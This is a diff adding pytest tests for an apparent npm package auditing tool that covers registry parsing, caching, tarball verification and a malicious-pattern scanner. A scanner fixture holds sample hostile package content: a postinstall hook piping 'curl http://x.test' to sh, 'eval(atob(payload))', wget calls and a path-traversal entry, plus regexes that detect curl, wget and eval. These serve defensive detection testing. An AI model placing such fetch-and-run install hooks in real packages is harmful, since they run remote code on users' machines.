@@ -1,6 +1,7 @@
 import pytest
 import sys
 import os
+import time
 from unittest.mock import patch, AsyncMock, MagicMock
 
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..', 'src'))
@@ -64,6 +65,56 @@ class TestRegistryParsing:
         assert len(info["maintainers"]) == 1
         assert info["repository"] is not None
     
+    def test_extract_package_info_full_fields(self, mock_registry_response):
+        from registry import extract_package_info, FULL_FIELDS
+        
+        info = extract_package_info(mock_registry_response)
+        
+        assert info["mode"] == "full"
+        assert all(field in info for field in FULL_FIELDS)
+        assert info["tarball_url"].endswith("test-package-1.0.0.tgz")
+        assert info["release_index"]["versions"] == ["1.0.0"]
+    
+    def test_extract_package_info_abbreviated(self):
+        from registry import extract_package_info, ABBREVIATED_FIELDS, FULL_FIELDS
+        
+        abbreviated = {
+            "name": "test-package",
+            "modified": "2024-06-01T00:00:00.000Z",
+            "dist-tags": {"latest": "1.0.0"},
+            "versions": {
+                "1.0.0": {
+                    "name": "test-package",
+                    "version": "1.0.0",
+                    "dependencies": {"lodash": "^4.17.21"},
+                    "hasInstallScript": True,
+                    "dist": {
+                        "tarball": "https://registry.npmjs.org/test-package/-/test-package-1.0.0.tgz"
+                    }
+                }
+            }
+        }
+        
+        info = extract_package_info(abbreviated, abbreviated=True)
+        
+        assert info["mode"] == "abbreviated"
+        assert all(field in info for field in ABBREVIATED_FIELDS)
+        assert not any(field in info for field in FULL_FIELDS if field not in ABBREVIATED_FIELDS)
+        assert info["dependencies"] == {"lodash": "^4.17.21"}
+        assert info["has_install_script"]
+    
+    def test_full_packument_without_time_keeps_full_fields(self, mock_registry_response):
+        from registry import extract_package_info
+        
+        metadata = {key: value for key, value in mock_registry_response.items() if key != "time"}
+        metadata["modified"] = "2024-06-01T00:00:00.000Z"
+        
+        info = extract_package_info(metadata)
+        
+        assert info["mode"] == "full"
+        assert len(info["maintainers"]) == 1
+        assert info["repository"] is not None
+    
     def test_extract_package_info_with_error(self):
         from registry import extract_package_info
         
@@ -83,6 +134,40 @@ class TestPublishActivityAnalysis:
         assert "releases_last_30d" in result
         assert "is_dormant_then_sudden" in result
         assert "latest_age_days" in result
+    
+    def test_window_counts_and_cadence(self):
+        from datetime import datetime, timedelta
+        from audit import analyze_publish_activity
+        
+        now = datetime.utcnow()
+        
+        def stamp(delta):
+            return (now - delta).strftime("%Y-%m-%dT%H:%M:%S.000Z")
+        
+        time_data = {"created": stamp(timedelta(days=400)), "modified": stamp(timedelta(hours=1))}
+        time_data.update({f"0.{i}.0": stamp(timedelta(days=400 - i)) for i in range(3)})
+        time_data.update({f"1.{i}.0": stamp(timedelta(hours=6 - i)) for i in range(5)})
+        time_data["broken"] = "not-a-date"
+        
+        result = analyze_publish_activity(time_data)
+        
+        assert result["releases_last_7d"] == 5
+        assert result["releases_last_30d"] == 5
+        assert result["latest_age_days"] == 0
+        assert result["cadence"]["max_releases_24h"] == 5
+        assert result["cadence"]["bursts"] == 1
+        assert result["cadence"]["max_gap_days"] > 390
+    
+    def test_cached_index_skips_parsing(self, mock_registry_response):
+        from audit import analyze_publish_activity, build_release_index
+        
+        time_data = mock_registry_response["time"]
+        index = build_release_index(time_data)
+        
+        with patch('audit.build_release_index', side_effect=AssertionError("re-parsed")):
+            result = analyze_publish_activity(time_data, index)
+        
+        assert result == analyze_publish_activity(time_data)
 
 
 class TestMaintainerAnalysis:
@@ -137,6 +222,19 @@ class TestVersionTimeline:
         assert len(timeline) > 0
         assert all("version" in item for item in timeline)
         assert all("date" in item for item in timeline)
+    
+    def test_timeline_newest_first_and_limited(self):
+        from audit import parse_version_timeline, build_release_index
+        
+        time_data = {f"1.0.{i}": f"2024-01-01T00:{i // 60:02d}:{i % 60:02d}.000Z" for i in range(100)}
+        time_data["created"] = "2023-12-31T00:00:00.000Z"
+        
+        timeline = parse_version_timeline(time_data)
+        
+        assert len(timeline) == 20
+        assert timeline[0]["version"] == "1.0.99"
+        assert timeline[-1]["version"] == "1.0.80"
+        assert parse_version_timeline(time_data, build_release_index(time_data), limit=3) == timeline[:3]
 
 
 @pytest.mark.asyncio
@@ -162,6 +260,31 @@ class TestAsyncFunctions:
             
             assert result["name"] == "test-package"
     
+    async def test_fetch_abbreviated_uses_install_document(self):
+        from registry import fetch_package_metadata, ABBREVIATED_ACCEPT
+        
+        with patch('registry.httpx.AsyncClient') as mock_client:
+            mock_response = MagicMock()
+            mock_response.status_code = 200
+            mock_response.json.return_value = {"name": "test-package", "modified": "", "versions": {}}
+            mock_response.raise_for_status = MagicMock()
+            
+            mock_client_instance = AsyncMock()
+            mock_client_instance.get = AsyncMock(return_value=mock_response)
+            mock_client_instance.__aenter__ = AsyncMock(return_value=mock_client_instance)
+            mock_client_instance.__aexit__ = AsyncMock(return_value=None)
+            mock_client.return_value = mock_client_instance
+            
+            with patch('registry.get_cached_registry', return_value=None) as mock_get:
+                with patch('registry.get_registry_validators', return_value=None):
+                    with patch('registry.set_cached_registry') as mock_set:
+                        await fetch_package_metadata("test-package", abbreviated=True)
+            
+            headers = mock_client_instance.get.call_args.kwargs["headers"]
+            assert headers["Accept"] == ABBREVIATED_ACCEPT
+            assert mock_get.call_args.kwargs["abbreviated"]
+            assert mock_set.call_args.kwargs["abbreviated"]
+    
     async def test_fetch_package_not_found(self):
         from registry import fetch_package_metadata
         
@@ -179,9 +302,827 @@ class TestAsyncFunctions:
                 result = await fetch_package_metadata("nonexistent-package-xyz")
             
             assert "error" in result
+    
+    async def test_shared_http_client_reused(self):
+        import httpx
+        import registry
+        
+        def handler(request):
+            return httpx.Response(200, json=MOCK_NPM_RESPONSE)
+        
+        client = await registry.start_http_client(max_connections_per_host=2)
+        try:
+            assert await registry.start_http_client() is client
+            client._transport = httpx.MockTransport(handler)
+            
+            with patch('registry.httpx.AsyncClient') as mock_client:
+                with patch('registry.get_cached_registry', return_value=None):
+                    with patch('registry.set_cached_registry'):
+                        for _ in range(3):
+                            result = await registry.fetch_package_metadata("test-package")
+                mock_client.assert_not_called()
+            
+            assert result["name"] == "test-package"
+            stats = registry.get_http_stats()
+            assert stats["active"]
+            assert stats["requests"] == 3
+            assert stats["max_connections_per_host"] == 2
+        finally:
+            await registry.close_http_client()
+        
+        assert not registry.get_http_stats()["active"]
+    
+    async def test_download_tarball_streams_and_verifies(self, tmp_path):
+        import base64
+        import hashlib
+        import httpx
+        import registry
+        
+        payload = b"tarball-bytes" * 10000
+        integrity = "sha512-" + base64.b64encode(hashlib.sha512(payload).digest()).decode()
+        
+        async def chunks():
+            for i in range(0, len(payload), 4096):
+                yield payload[i:i + 4096]
+        
+        def handler(request):
+            if request.url.path.endswith("unsized.tgz"):
+                return httpx.Response(200, content=chunks())
+            return httpx.Response(200, content=payload)
+        
+        client = await registry.start_http_client()
+        client._transport = httpx.MockTransport(handler)
+        dest = str(tmp_path / "pkg.tgz")
+        try:
+            assert await registry.download_tarball("https://r.test/pkg.tgz", dest, integrity=integrity)
+            with open(dest, "rb") as f:
+                assert f.read() == payload
+            
+            shasum = hashlib.sha1(payload).hexdigest()
+            assert await registry.download_tarball("https://r.test/pkg.tgz", dest, shasum=shasum)
+            
+            assert not await registry.download_tarball("https://r.test/pkg.tgz", dest, shasum="0" * 40)
+            assert not os.path.exists(dest)
+            
+            assert not await registry.download_tarball("https://r.test/pkg.tgz", dest, max_bytes=1000)
+            assert not await registry.download_tarball("https://r.test/unsized.tgz", dest, max_bytes=50000)
+            assert not os.path.exists(dest)
+            assert registry.get_http_stats()["tarballs_rejected"] == 3
+            
+            async def discard(chunk):
+                pass
+            
+            reasons = []
+            url = "https://r.test/pkg.tgz"
+            assert not await registry.stream_tarball(url, discard, max_bytes=1000, reasons=reasons)
+            assert not await registry.stream_tarball(url, discard, shasum="0" * 40, reasons=reasons)
+            assert reasons == ["too_large", "integrity_mismatch"]
+        finally:
+            await registry.close_http_client()
+    
+    async def test_fetch_revalidates_with_validators(self):
+        from registry import fetch_package_metadata
+        
+        stale = {
+            "data": MOCK_NPM_RESPONSE,
+            "etag": '"abc123"',
+            "last_modified": "Sat, 01 Jun 2024 00:00:00 GMT"
+        }
+        
+        with patch('registry.httpx.AsyncClient') as mock_client:
+            mock_response = MagicMock()
+            mock_response.status_code = 304
+            
+            mock_client_instance = AsyncMock()
+            mock_client_instance.get = AsyncMock(return_value=mock_response)
+            mock_client_instance.__aenter__ = AsyncMock(return_value=mock_client_instance)
+            mock_client_instance.__aexit__ = AsyncMock(return_value=None)
+            mock_client.return_value = mock_client_instance
+            
+            with patch('registry.get_cached_registry', return_value=None):
+                with patch('registry.get_registry_validators', return_value=stale):
+                    with patch('registry.touch_cached_registry') as mock_touch:
+                        with patch('registry.set_cached_registry') as mock_set:
+                            result = await fetch_package_metadata("test-package")
+            
+            headers = mock_client_instance.get.call_args.kwargs["headers"]
+            assert headers["If-None-Match"] == '"abc123"'
+            assert headers["If-Modified-Since"] == "Sat, 01 Jun 2024 00:00:00 GMT"
+            mock_touch.assert_called_once_with("test-package", abbreviated=False)
+            mock_set.assert_not_called()
+            assert result["name"] == "test-package"
+    
+    async def test_concurrent_calls_are_coalesced(self):
+        import asyncio
+        from coalesce import coalesce, get_coalescing_stats, reset_coalescing_stats
+        
+        reset_coalescing_stats()
+        calls = []
+        
+        async def work():
+            calls.append(1)
+            await asyncio.sleep(0.01)
+            return {"value": 42}
+        
+        results = await asyncio.gather(*[coalesce("test", "pkg@1.0.0", work) for _ in range(10)])
+        
+        assert len(calls) == 1
+        assert all(r == {"value": 42} for r in results)
+        stats = get_coalescing_stats()
+        assert stats["test"] == {"executed": 1, "coalesced": 9}
+        assert stats["in_flight"] == 0
+        
+        await coalesce("test", "pkg@1.0.0", work)
+        assert len(calls) == 2
+    
+    async def test_concurrent_metadata_fetches_share_request(self):
+        import asyncio
+        from registry import fetch_package_metadata
+        
+        async def slow_get(*args, **kwargs):
+            await asyncio.sleep(0.01)
+            return mock_response
+        
+        with patch('registry.httpx.AsyncClient') as mock_client:
+            mock_response = MagicMock()
+            mock_response.status_code = 200
+            mock_response.json.return_value = MOCK_NPM_RESPONSE
+            mock_response.raise_for_status = MagicMock()
+            
+            mock_client_instance = AsyncMock()
+            mock_client_instance.get = AsyncMock(side_effect=slow_get)
+            mock_client_instance.__aenter__ = AsyncMock(return_value=mock_client_instance)
+            mock_client_instance.__aexit__ = AsyncMock(return_value=None)
+            mock_client.return_value = mock_client_instance
+            
+            with patch('registry.get_cached_registry', return_value=None):
+                with patch('registry.get_registry_validators', return_value=None):
+                    with patch('registry.set_cached_registry'):
+                        results = await asyncio.gather(
+                            *[fetch_package_metadata("test-package") for _ in range(5)]
+                        )
+            
+            assert mock_client_instance.get.call_count == 1
+            assert all(r["name"] == "test-package" for r in results)
+
+
+class TestCacheEngine:
+    def test_round_trip_and_metrics(self, tmp_path):
+        from cache import CacheEngine
+        
+        engine = CacheEngine(str(tmp_path / "cache.db"))
+        try:
+            assert engine.connection().execute("PRAGMA journal_mode").fetchone()[0] == "wal"
+            
+            assert engine.get_fresh("report_cache", "react", ["report"], 60) is None
+            engine.put("report_cache", "react", {"report": "{}", "cached_at": time.time()})
+            assert engine.get_fresh("report_cache", "react", ["report"], 60)["report"] == "{}"
+            
+            engine.update("report_cache", "react", {"cached_at": 0})
+            assert engine.get_fresh("report_cache", "react", ["report"], 60) is None
+            
+            stats = engine.stats()
+            assert stats["hits"]["report_cache"] == 1
+            assert stats["misses"]["report_cache"] == 2
+            assert stats["expired"]["report_cache"] == 1
+            assert stats["writes"]["report_cache"] == 2
+            assert stats["connections"] == 1
+        finally:
+            engine.close()
+    
+    def test_put_many_is_one_transaction(self, tmp_path):
+        from cache import CacheEngine
+        
+        engine = CacheEngine(str(tmp_path / "cache.db"))
+        try:
+            engine.initialize()
+            before = engine.stats()["transactions"]
+            engine.put_many("registry_cache", [
+                (f"pkg-{i}", {"data": "{}", "cached_at": time.time()}) for i in range(50)
+            ])
+            
+            assert engine.stats()["transactions"] == before + 1
+            assert engine.stats()["writes"]["registry_cache"] == 50
+            assert engine.get("registry_cache", "pkg-49", ["data"]) == {"data": "{}"}
+        finally:
+            engine.close()
+    
+    def test_migrates_legacy_schema(self, tmp_path):
+        import sqlite3
+        from cache import CacheEngine
+        
+        db_path = str(tmp_path / "cache.db")
+        conn = sqlite3.connect(db_path)
+        conn.execute("CREATE TABLE registry_cache (package_name TEXT PRIMARY KEY, data TEXT, cached_at REAL)")
+        conn.execute("INSERT INTO registry_cache VALUES ('react', '{}', 0)")
+        conn.commit()
+        conn.close()
+        
+        engine = CacheEngine(db_path)
+        try:
+            row = engine.get("registry_cache", "react", ["data", "etag", "last_modified"])
+            assert row == {"data": "{}", "etag": None, "last_modified": None}
+        finally:
+            engine.close()
+    
+    def test_lock_contention_is_retried_and_measured(self, tmp_path):
+        import sqlite3
+        import threading
+        from cache import CacheEngine
+        
+        db_path = str(tmp_path / "cache.db")
+        engine = CacheEngine(db_path)
+        try:
+            engine.initialize()
+            
+            blocker = sqlite3.connect(db_path, isolation_level=None, check_same_thread=False)
+            blocker.execute("BEGIN IMMEDIATE")
+            release = threading.Timer(0.05, lambda: blocker.execute("COMMIT"))
+            release.start()
+            
+            engine.put("report_cache", "react", {"report": "{}", "cached_at": time.time()})
+            release.join()
+            blocker.close()
+            
+            stats = engine.stats()
+            assert stats["lock_waits"] > 0
+            assert stats["lock_wait_seconds"] > 0
+            assert stats["errors"] == 0
+        finally:
+            engine.close()
+
+
+class TestCacheEviction:
+    def test_evicts_least_recently_used_over_row_budget(self, tmp_path):
+        from cache import CacheEngine
+        
+        budgets = {"report_cache": {"max_rows": 3}}
+        engine = CacheEngine(str(tmp_path / "cache.db"), budgets=budgets)
+        try:
+            for i in range(5):
+                engine.put("report_cache", f"pkg-{i}", {
+                    "report": "{}", "cached_at": time.time(), "accessed_at": float(i)
+                })
+            engine.get_fresh("report_cache", "pkg-0", ["report"], 60)
+            
+            result = engine.sweep()
+            
+            assert result["evicted"]["report_cache"] == 2
+            remaining = {key for key in ("pkg-0", "pkg-1", "pkg-2", "pkg-3", "pkg-4")
+                         if engine.get("report_cache", key, ["report"])}
+            assert remaining == {"pkg-0", "pkg-3", "pkg-4"}
+            assert engine.stats()["evicted"]["report_cache"] == 2
+        finally:
+            engine.close()
+    
+    def test_evicts_over_byte_budget(self, tmp_path):
+        from cache import CacheEngine
+        
+        budgets = {"report_cache": {"max_bytes": 2500}}
+        engine = CacheEngine(str(tmp_path / "cache.db"), budgets=budgets)
+        try:
+            for i in range(5):
+                engine.put("report_cache", f"pkg-{i}", {
+                    "report": "x" * 1000, "cached_at": time.time(), "accessed_at": float(i)
+                })
+            
+            assert engine.evict("report_cache") == 3
+            assert engine.get("report_cache", "pkg-4", ["report"]) is not None
+            assert engine.get("report_cache", "pkg-2", ["report"]) is None
+        finally:
+            engine.close()
+    
+    def test_sweep_deletes_expired_rows_and_vacuums(self, tmp_path):
+        from cache import CacheEngine
+        
+        budgets = {"report_cache": {"max_age_seconds": 60}}
+        engine = CacheEngine(str(tmp_path / "cache.db"), budgets=budgets)
+        try:
+            engine.put_many("report_cache", [
+                (f"old-{i}", {"report": "x" * 4000, "cached_at": 0}) for i in range(100)
+            ])
+            engine.put("report_cache", "fresh", {"report": "{}", "cached_at": time.time()})
+            
+            result = engine.sweep()
+            
+            assert result["expired"]["report_cache"] == 100
+            assert result["vacuumed_pages"] > 0
+            assert engine.get("report_cache", "fresh", ["report"]) is not None
+            assert engine.stats()["expired_deleted"]["report_cache"] == 100
+        finally:
+            engine.close()
+    
+    def test_legacy_database_converted_to_incremental_vacuum(self, tmp_path):
+        import sqlite3
+        from cache import CacheEngine
+        
+        db_path = str(tmp_path / "cache.db")
+        conn = sqlite3.connect(db_path)
+        conn.execute("CREATE TABLE report_cache (package_name TEXT PRIMARY KEY, report TEXT, cached_at REAL)")
+        conn.commit()
+        conn.close()
+        
+        engine = CacheEngine(db_path, budgets={})
+        try:
+            engine.sweep()
+            assert engine.connection().execute("PRAGMA auto_vacuum").fetchone()[0] == 2
+        finally:
+            engine.close()
+
+
+class TestCompressedStorage:
+    def test_payload_round_trip(self):
+        from cache import encode_payload, decode_payload, CACHE_FORMAT_ZLIB_JSON, CACHE_FORMAT_JSON
+        
+        stored, format, raw_size = encode_payload(MOCK_NPM_RESPONSE)
+        assert format == CACHE_FORMAT_ZLIB_JSON
+        assert len(stored) < raw_size
+        assert decode_payload(stored, format) == MOCK_NPM_RESPONSE
+        
+        stored, format, _ = encode_payload(MOCK_NPM_RESPONSE, compress=False)
+        assert format == CACHE_FORMAT_JSON
+        assert decode_payload(stored, None) == MOCK_NPM_RESPONSE
+    
+    def test_trimmed_packument_keeps_pipeline_fields(self):
+        import copy
+        from audit import build_release_index
+        from registry import trim_packument, extract_package_info, with_release_index
+        
+        metadata = copy.deepcopy(MOCK_NPM_RESPONSE)
+        metadata["versions"]["0.9.0"] = {"name": "test-package", "readme": "x" * 10000}
+        metadata["readme"] = "y" * 10000
+        
+        trimmed = trim_packument(metadata)
+        
+        assert "readme" not in trimmed
+        assert trimmed["versions"]["0.9.0"] == {}
+        assert extract_package_info(trimmed) == extract_package_info(metadata)
+        
+        indexed = trim_packument(with_release_index(metadata))
+        assert indexed["release_index"] == build_release_index(metadata["time"])
+    
+    def test_migrate_legacy_rows(self, tmp_path, monkeypatch):
+        import json
+        import sqlite3
+        import registry
+        from cache import CACHE_FORMAT_ZLIB_JSON
+        
+        db_path = str(tmp_path / "cache.db")
+        conn = sqlite3.connect(db_path)
+        conn.execute("CREATE TABLE registry_cache (package_name TEXT PRIMARY KEY, data TEXT, cached_at REAL)")
+        conn.execute("CREATE TABLE report_cache (package_name TEXT PRIMARY KEY, report TEXT, cached_at REAL)")
+        legacy = dict(MOCK_NPM_RESPONSE, readme="lorem ipsum " * 2000)
+        conn.execute("INSERT INTO registry_cache VALUES ('test-package', ?, ?)", (json.dumps(legacy), time.time()))
+        conn.execute("INSERT INTO registry_cache VALUES ('broken', 'not json', ?)", (time.time(),))
+        conn.execute(
+            "INSERT INTO report_cache VALUES ('test-package', ?, ?)",
+            (json.dumps({"risk_score": 5}), time.time())
+        )
+        conn.commit()
+        conn.close()
+        
+        registry.close_cache_engine()
+        monkeypatch.setattr(registry, "CACHE_DB", db_path)
+        try:
+            result = registry.migrate_cache()
+            
+            assert result["rewritten"]["registry_cache"] == 2
+            assert result["rewritten"]["report_cache"] == 1
+            assert result["tables"]["registry_cache"]["rows"] == 1
+            assert result["tables"]["registry_cache"]["compression_ratio"] > 1
+            
+            engine = registry.get_cache_engine()
+            row = engine.get("registry_cache", "test-package", ["format"])
+            assert row["format"] == CACHE_FORMAT_ZLIB_JSON
+            data = registry._load_registry("test-package", False)
+            assert "readme" not in data
+            assert registry.extract_package_info(data) == registry.extract_package_info(MOCK_NPM_RESPONSE)
+            assert registry._load_report_entry("test-package")[0] == {"risk_score": 5}
+            
+            assert registry.migrate_cache()["rewritten"]["registry_cache"] == 0
+        finally:
+            registry.close_cache_engine()
+
+
+@pytest.mark.asyncio
+class TestAsyncCache:
+    async def test_writes_are_batched_and_reads_run_off_loop(self, tmp_path):
+        import asyncio
+        import threading
+        from cache import AsyncCache, CacheEngine
+        
+        engine = CacheEngine(str(tmp_path / "cache.db"))
+        cache = AsyncCache(engine, reader_threads=2)
+        try:
+            await asyncio.gather(*[
+                cache.put("report_cache", f"pkg-{i}", {"report": "{}", "cached_at": time.time()})
+                for i in range(50)
+            ])
+            
+            reader_threads = set()
+            
+            def read(key):
+                reader_threads.add(threading.current_thread().name)
+                return engine.get("report_cache", key, ["report"])
+            
+            rows = await asyncio.gather(*[cache.read(read, f"pkg-{i}") for i in range(50)])
+            assert all(row == {"report": "{}"} for row in rows)
+            assert all(name.startswith("cache-reader") for name in reader_threads)
+            
+            stats = cache.stats()
+            assert stats["queued_writes"] == 50
+            assert stats["pending_writes"] == 0
+            assert stats["write_batches"] < 50
+            assert stats["max_batch_size"] > 1
+            assert engine.stats()["writes"]["report_cache"] == 50
+        finally:
+            cache.close()
+            engine.close()
+    
+    async def test_write_errors_reach_caller(self, tmp_path):
+        import sqlite3
+        from cache import AsyncCache, CacheEngine
+        
+        engine = CacheEngine(str(tmp_path / "cache.db"))
+        cache = AsyncCache(engine)
+        try:
+            with pytest.raises(sqlite3.Error):
+                await cache.put("report_cache", "react", {"no_such_column": 1})
+        finally:
+            cache.close()
+            engine.close()
+
+
+class TestMemoryCache:
+    def test_lru_eviction_by_bytes(self):
+        from cache import MemoryCache
+        
+        cache = MemoryCache(max_bytes=250)
+        for i in range(3):
+            cache.put(f"pkg-{i}", {"i": i}, b"x" * 100)
+        
+        assert cache.get("pkg-0") is None
+        assert cache.get("pkg-2") == ({"i": 2}, b"x" * 100)
+        stats = cache.stats()
+        assert stats["evictions"] == 1
+        assert stats["bytes"] == 200
+    
+    def test_expiry_and_invalidation(self):
+        from cache import MemoryCache
+        
+        cache = MemoryCache()
+        cache.put("old", {}, b"{}", expires_at=time.time() - 1)
+        cache.put("react", {}, b"{}")
+        
+        assert cache.get("old") is None
+        cache.invalidate("react")
+        assert cache.get("react") is None
+        assert cache.stats()["invalidations"] == 1
+
+
+@pytest.mark.asyncio
+class TestReportMemoryCache:
+    async def test_hot_reads_skip_sqlite(self, tmp_path, monkeypatch):
+        import registry
+        from fastapi.responses import JSONResponse
+        
+        registry.close_cache_engine()
+        monkeypatch.setattr(registry, "CACHE_DB", str(tmp_path / "cache.db"))
+        report = {"package": "react", "risk_score": 12, "description": "café"}
+        try:
+            await registry.set_cached_report("react", report)
+            registry._report_memory_cache.clear()
+            
+            assert await registry.get_cached_report("react") == report
+            with patch('registry.get_async_cache', side_effect=AssertionError("disk read")):
+                body = await registry.get_cached_report_body("react")
+            
+            assert body == JSONResponse(content=report).body
+            assert registry._report_memory_cache.stats()["hits"] >= 1
+        finally:
+            registry.close_cache_engine()
+    
+    async def test_payload_work_runs_off_event_loop(self, tmp_path, monkeypatch):
+        import threading
+        import httpx
+        import registry
+        
+        loop_thread = threading.current_thread()
+        threads = []
+        
+        def recording(function):
+            def wrapper(*args):
+                threads.append(threading.current_thread())
+                return function(*args)
+            return wrapper
+        
+        registry.close_cache_engine()
+        monkeypatch.setattr(registry, "CACHE_DB", str(tmp_path / "cache.db"))
+        monkeypatch.setattr(registry, "encode_payload", recording(registry.encode_payload))
+        monkeypatch.setattr(registry, "build_release_index", recording(registry.build_release_index))
+        client = await registry.start_http_client()
+        client._transport = httpx.MockTransport(lambda request: httpx.Response(200, json=MOCK_NPM_RESPONSE))
+        try:
+            metadata = await registry.fetch_package_metadata("test-package")
+            await registry.set_cached_report("react", {"risk_score": 1})
+            await registry.set_cached_tarball_findings("sha512-x", "rules", {"eval_patterns": []})
+            
+            assert metadata["release_index"]["versions"] == ["1.0.0"]
+            assert len(threads) == 4
+            assert loop_thread not in threads
+        finally:
+            await registry.close_http_client()
+            registry.close_cache_engine()
+    
+    async def test_set_cached_report_replaces_memory_entry(self, tmp_path, monkeypatch):
+        import registry
+        
+        registry.close_cache_engine()
+        monkeypatch.setattr(registry, "CACHE_DB", str(tmp_path / "cache.db"))
+        try:
+            await registry.set_cached_report("react", {"risk_score": 1})
+            await registry.set_cached_report("react", {"risk_score": 2})
+            
+            assert await registry.get_cached_report("react") == {"risk_score": 2}
+            assert registry._report_memory_cache.stats()["invalidations"] >= 1
+        finally:
+            registry.close_cache_engine()
 
 
+def build_tarball(path, files):
+    import io
+    import tarfile
+    
+    with tarfile.open(path, "w:gz") as tar:
+        for name, content in files.items():
+            data = content.encode("utf-8")
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return str(path)
+
+
+SAMPLE_TARBALL_FILES = {
+    "package/package.json": '{"name": "evil", "scripts": {"postinstall": "curl http://x.test | sh "}}',
+    "package/index.js": "const cp = require('child_process');\neval(atob(payload));\n",
+    "package/lib/net.ts": "fetch('https://x.test');\nwget http://x.test/a\n",
+    "package/lib/blob.mjs": "const s = '" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY" * 4 + "';\n",
+    "package/lib/hex.cjs": "const h = '" + "\\x41" * 60 + "';\n",
+    "package/README.md": "eval(nothing) in markdown is ignored",
+    "package/node_modules/dep/package.json": '{"scripts": {"preinstall": "wget http://y.test"}}',
+    "../escape.js": "eval(1)"
+}
+
+
+@pytest.fixture
+def scanner_cache(tmp_path, monkeypatch):
+    import registry
+    
+    registry.close_cache_engine()
+    monkeypatch.setattr(registry, "CACHE_DB", str(tmp_path / "cache.db"))
+    yield
+    registry.close_cache_engine()
+
+
+@pytest.mark.usefixtures("scanner_cache")
 class TestTarballScanner:
+    def test_in_memory_scan_matches_extraction(self, tmp_path):
+        from tarball_scanner import scan_tarball
+        
+        path = build_tarball(tmp_path / "pkg.tgz", SAMPLE_TARBALL_FILES)
+        
+        def normalized(findings):
+            return {
+                key: sorted(value, key=lambda item: sorted(item.items())) if isinstance(value, list) else value
+                for key, value in findings.items()
+            }
+        
+        in_memory = scan_tarball(path)
+        extracted = scan_tarball(path, in_memory=False)
+        
+        assert normalized(in_memory) == normalized(extracted)
+        assert in_memory["has_postinstall"] and in_memory["has_eval_function"]
+        assert in_memory["has_network_commands"] and in_memory["has_high_entropy"]
+        assert [s["name"] for s in in_memory["install_scripts"]] == ["postinstall"]
+        assert in_memory["network_patterns"][0]["file"] == "package.json"
+        assert all(p["file"] != "escape.js" for p in in_memory["eval_patterns"])
+    
+    def test_in_memory_scan_never_extracts(self, tmp_path):
+        from tarball_scanner import scan_tarball
+        
+        path = build_tarball(tmp_path / "pkg.tgz", SAMPLE_TARBALL_FILES)
+        
+        with patch('tarball_scanner.tempfile.mkdtemp', side_effect=AssertionError("touched disk")):
+            findings = scan_tarball(path)
+        
+        assert findings["has_eval_function"]
+    
+    def test_file_scan_reports_locations_in_one_pass(self):
+        from tarball_scanner import empty_findings, scan_file_content
+        
+        blob = "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY" * 4
+        content = (
+            "var a = 1;\n"
+            "  x = EVAL (y); wget http://a\n"
+            f"const s = '{blob}';\n"
+            "eval(z); curl  http://b\n"
+        )
+        findings = empty_findings()
+        scan_file_content(content, "index.js", findings)
+        
+        eval_hit = findings["eval_patterns"][0]
+        assert len(findings["eval_patterns"]) == 1
+        assert (eval_hit["line"], eval_hit["column"]) == (2, 7)
+        assert content[eval_hit["offset"]:].startswith("EVAL")
+        assert "EVAL (y)" in eval_hit["snippet"]
+        
+        assert [p["pattern"] for p in findings["network_patterns"]] == [r'\bcurl\s+', r'\bwget\s+']
+        assert [(p["line"], p["column"]) for p in findings["network_patterns"]] == [(4, 10), (2, 17)]
+        assert (findings["high_entropy_strings"][0]["line"], findings["high_entropy_strings"][0]["column"]) == (3, 11)
+    
+    def test_prefilter_skips_rules_without_their_literal(self):
+        from tarball_scanner import empty_findings, get_prefilter_stats, reset_prefilter_stats, scan_file_content
+        
+        reset_prefilter_stats()
+        findings = empty_findings()
+        scan_file_content("const total = items.reduce((a, b) => a + b, 0);", "sum.js", findings)
+        scan_file_content("window.EVAL (code)", "run.js", findings)
+        
+        stats = get_prefilter_stats()
+        assert stats["files"] == 2 and stats["files_skipped"] == 1
+        assert stats["rules"][r'\beval\s*\('] == {"hits": 1, "skipped": 1}
+        assert stats["rules"][r'\bcurl\s+'] == {"hits": 0, "skipped": 2}
+        assert [p["file"] for p in findings["eval_patterns"]] == ["run.js"]
+    
+    def test_parallel_scan_merges_in_tarball_order(self, tmp_path):
+        import tarball_scanner
+        from tarball_scanner import (
+            close_scan_pool, get_prefilter_stats, get_scan_pool_stats,
+            reset_prefilter_stats, scan_tarball, start_scan_pool
+        )
+        
+        files = dict(SAMPLE_TARBALL_FILES)
+        for i in range(40):
+            body = "x = y + 1;\n" * 50 + ("eval(c);\n" if i % 3 else "")
+            files[f"package/dist/chunk{i}.js"] = f"// chunk {i}\n" + body
+        path = build_tarball(tmp_path / "big.tgz", files)
+        
+        inline = scan_tarball(path)
+        
+        reset_prefilter_stats()
+        with patch.object(tarball_scanner, 'SCAN_PARALLEL_MIN_BYTES', 2000), \
+                patch.object(tarball_scanner, 'SCAN_BATCH_BYTES', 1500), \
+                patch.object(tarball_scanner, 'FILE_FINDINGS_CACHE', False):
+            start_scan_pool(2)
+            try:
+                parallel = scan_tarball(path)
+                stats = get_scan_pool_stats()
+            finally:
+                close_scan_pool()
+        
+        assert parallel == inline
+        assert stats["parallel_scans"] == 1 and stats["batches"] > 2 and stats["batch_failures"] == 0
+        assert get_prefilter_stats()["files"] == 44
+    
+    def test_small_package_scans_inline_with_pool(self, tmp_path):
+        from tarball_scanner import close_scan_pool, get_scan_pool_stats, scan_tarball, start_scan_pool
+        
+        path = build_tarball(tmp_path / "pkg.tgz", SAMPLE_TARBALL_FILES)
+        expected = scan_tarball(path)
+        
+        start_scan_pool(2)
+        try:
+            assert scan_tarball(path) == expected
+            stats = get_scan_pool_stats()
+        finally:
+            close_scan_pool()
+        
+        assert stats["inline_scans"] == 1 and stats["batches"] == 0
+        assert not get_scan_pool_stats()["active"]
+    
+    def test_saturation_stops_scan_with_pool(self, tmp_path):
+        import tarball_scanner
+        from tarball_scanner import close_scan_pool, scan_tarball, start_scan_pool
+        
+        files = {
+            "package/package.json": '{"name": "setup", "scripts": {"postinstall": "node setup.js"}}',
+            "package/a.js": "eval(x);\n"
+        }
+        files.update({f"package/b{i}.js": "eval(y);\n" * 50 for i in range(10)})
+        path = build_tarball(tmp_path / "pkg.tgz", files)
+        
+        with patch.object(tarball_scanner, 'SCAN_PARALLEL_MIN_BYTES', 100), \
